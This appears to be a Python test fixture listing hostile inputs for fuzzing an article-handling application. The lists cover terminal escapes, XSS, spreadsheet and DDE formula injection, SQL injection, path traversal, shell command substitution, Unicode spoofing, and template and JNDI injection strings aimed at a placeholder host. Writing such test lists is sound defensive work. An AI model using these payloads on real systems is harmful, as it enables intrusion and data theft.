"""What somebody might put into an article, its title, its source or its file name to reach beyond it."""

TERMINAL = [
    "\x1b[31mrouge", "\x1b[2J\x1b[H", "\x1b]0;titre\x07", "\x1b]52;c;bWFs\x07", "\x1b]8;;http://mal.example\x07lien\x1b]8;;\x07",
    "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b(0lqk\x1b(B", "\x1bc", "\x9b31mC1", "\x9d0;titre\x9c", "\x90mal\x9c",
    "\x08\x08\x08effacé", "\rligne réécrite", "\x0bvertical\x0c", "\x07\x07", "\x7f\x7f", "a\x00b", "\x0e\x0f", "\x1b[1A\x1b[2K",
    "\x1b_Gi=1\x1b\\", "\x1b]1337;File=:AAAA\x07", "\x1b[5i", "\x1b[38;5;196m\x1b[5m",
]  # fmt: skip
RICH = [
    "[bold red]gras[/]", "[link=http://mal.example]lien[/link]", "[/]", "[/bold]", "[@click=app.quit]x[/]", "[on red]", ":skull:",
    "\\[bold]", "[[[", "[#ff0000]x", "[blink]x[/blink]", "[not a style", "{{", "%(name)s", "{0.__class__}", "%s%n%x",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "javascript:alert(1)", "<!--<script>", "--><script>alert(1)</script>", "<iframe src=https://mal.example>",
    "<a href='javascript:alert(1)'>x</a>", "]]><script>alert(1)</script>", "&lt;script&gt;", "&#60;script&#62;", "<ScRiPt>x",
    "<svg><script href=data:,alert(1) />", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<link rel=stylesheet href=//mal.example>", "<meta http-equiv=refresh content='0;url=//mal.example'>", "<base href=//mal.example>",
    "</textarea><script>1</script>", "<style>@import '//mal.example'</style>", "\u003cscript\u003e", "<details open ontoggle=alert(1)>",
    "data:text/html,<script>alert(1)</script>", "<b/onclick=alert(1)>x", "`onerror=alert(1)`",
]  # fmt: skip
FORMULA = [
    "=1+1", "=cmd|' /C calc'!A0", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", ' =HYPERLINK("http://mal.example")',
    '=IMPORTXML("http://mal.example","//a")', "a;=1+1", 'a"\n=1+1', 'a,"=1+1', "=DDE(\"cmd\";\"/C calc\")", "＝1+1", "＋1", "|calc",
    "%0A=1+1", "'=1+1", '"=1+1"',
]  # fmt: skip
SQL = [
    "'; DROP TABLE article; --", "' OR '1'='1", '" OR ""="', "x' UNION SELECT sql FROM sqlite_master --", "%", "_", "*", "?", "[a-z]*",
    "NEAR(a b)", "a AND b", "title:x", "^a", "a*", "\"", "';ATTACH DATABASE '/tmp/mal.db' AS x;--", "-- ", "/* */", "\\'; SELECT 1",
]  # fmt: skip
PATHS = [
    "../../../../tmp/mal", "/etc/passwd", "..", ".", "~/mal", "a/../../b", "..\\..\\mal", "C:\\Windows\\x", "file:///etc/passwd", "CON",
    "nul.txt", "a\nb", "a\tb", "-rf", "--db=/tmp/mal.db", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "a\u2215b", "x" * 300,
]  # fmt: skip
UNICODE = [
    "\u202egnp.exe", "\u2066isolé\u2069", "\u200bcaché", "\u200d\u200c", "\ufeffbom", "\u2028ligne\u2029", "\U000e0041\U000e0042",
    "e\u0301" * 40, "Z\u0310\u0311\u0312\u0313\u0314\u0315" * 20, "\u0130\u0131ß", "\ufffe\uffff", "\u061c\u200e\u200f", "\u115f\u3164",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "раураl", "\ufdfd", "\u1d2c", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
]  # fmt: skip
TEMPLATE = [
    "{{ 7*7 }}", "{% for x in [] %}", "{{ config.items() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}", "{# x #}",
    "${jndi:ldap://mal.example/a}", "{{=7*7}}", "*{7*7}", "@{7*7}",
]  # fmt: skip

ATTACKS = [*TERMINAL, *RICH, *HTML, *FORMULA, *SQL, *PATHS, *UNICODE, *TEMPLATE]
